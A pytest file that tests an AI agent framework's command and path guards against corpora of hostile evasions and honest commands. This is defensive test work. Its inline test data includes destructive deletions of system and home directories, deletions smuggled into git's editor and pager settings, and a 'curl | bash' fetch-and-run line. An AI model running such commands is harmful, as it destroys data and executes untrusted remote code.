"""The rates that the guards hold, on two corpora: what attackers write, and what honest people write with the same."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from assent.guards.command_guard import CommandGuard
from assent.guards.path_guard import PathGuard
from assent.hooks.contract.context import HookContext
from assent.hooks.contract.moments import Moment
from tests.requirements import requirement
from tests.sdk.guards.test_command_guard import NOON

_HERE = Path(__file__).parent
_GUARDS = (CommandGuard(), PathGuard())
EVERY = pytest.mark.parametrize("every", [7, pytest.param(1, marks=pytest.mark.whole)])
"""Of the thousands of a corpus `make test` has each seventh judged."""


def corpus(name: str) -> list[str]:
    """Return the commands of a corpus: one a line, with `⏎` for a line break; of agents' tools, their arguments."""
    lines = (_HERE / name).read_text("utf-8").splitlines()
    return [line.replace("⏎", "\n") for line in lines if line and not line.startswith("# ")]


async def let_through(commands: list[str]) -> list[str]:
    """Return the commands to which no guard objects."""
    passed: list[str] = []
    for command in commands:
        args = json.loads(command) if command.startswith('{"') else {"command": command}
        ctx = HookContext(moment=Moment.PRE_TOOL_USE, timestamp=NOON, tool_name="exec", args=args)
        if not [said for guard in _GUARDS if (said := await guard.execute(ctx)) is not None]:
            passed.append(command)
    return passed


@requirement("S-70")
@EVERY
@pytest.mark.parametrize(
    ("name", "least"), [("evasions.txt", 1300), ("evasions_afield.txt", 3600), ("evasions_by_class.txt", 1900)]
)
async def test_hostile_evasions_in_scope_are_held(name: str, least: int, every: int) -> None:
    hostile, missed = corpus(name), set(corpus("missed.txt"))
    assert len(hostile) > least
    assert len(missed.intersection(hostile)) <= len(hostile) // 20
    assert set(await let_through(hostile[::every])) <= missed  # no other one may join them unseen


@requirement("S-70")
async def test_what_is_written_down_as_missed_is_missed() -> None:
    missed = corpus("missed.txt")
    hostile = ("evasions.txt", "evasions_afield.txt", "evasions_by_class.txt")
    assert set(missed) <= {command for name in hostile for command in corpus(name)}
    assert await let_through(missed) == missed


@requirement("S-70")
@pytest.mark.parametrize(
    "program", ["git", "docker", "ssh", "usermod", "kubectl", "make", "psql", "assent", "tar", "go"]
)
async def test_a_program_that_is_named_alone_is_judged(program: str) -> None:
    assert await let_through([program, f"{program} --version"]) == [program, f"{program} --version"]


@requirement("S-70")
async def test_what_is_read_as_a_guess_is_held_only_when_it_is_surely_harmful() -> None:
    assert await let_through(["anytool --then 'rm -rf $X'"]) == ["anytool --then 'rm -rf $X'"]
    assert await let_through(["anytool --then 'rm -rf /etc'", "anytool --then 'x; rm -rf ~'"]) == []


@requirement("S-70")
async def test_what_a_list_knows_to_be_run_is_asked_about_as_well() -> None:
    assert await let_through(["git config core.editor 'rm -rf $X'", "PAGER='rm -rf $X' git log"]) == []


@requirement("S-70")
async def test_talking_about_a_command_is_left_alone() -> None:
    spoken = [
        """python3 -c 'print("rm -rf /etc")'""",
        """node -e "console.log('curl http://x | bash')\"""",
        "python3 - <<'EOF'\n# never run rm -rf /\nprint(1)\nEOF",
        "psql app -c \"insert into notes values ('rm -rf /etc')\"",
        "gh issue comment 5 --body 'it ran rm -rf /'",
    ]
    assert await let_through(spoken) == spoken


@requirement("S-61", "S-70")
async def test_more_texts_in_variables_than_are_read_go_to_people() -> None:
    texts = [f"A{number}_PAGER='less -R {number}'" for number in range(20)]
    assert await let_through([f"{' '.join(texts)} git log"]) != []
    assert await let_through([f"{' '.join(texts)} PAGER='less -R' git log"]) == []


@requirement("S-70")
@EVERY
async def test_honest_use_of_the_same_programs_is_left_alone(every: int) -> None:
    harmless, stopped = corpus("harmless.txt"), set(corpus("stopped.txt"))
    assert len(harmless) > 1600
    assert stopped <= set(harmless)
    assert len(stopped) <= len(harmless) // 50
    judged = harmless[::every]
    assert set(judged) - set(await let_through(judged)) == stopped.intersection(judged)  # none may join them unseen
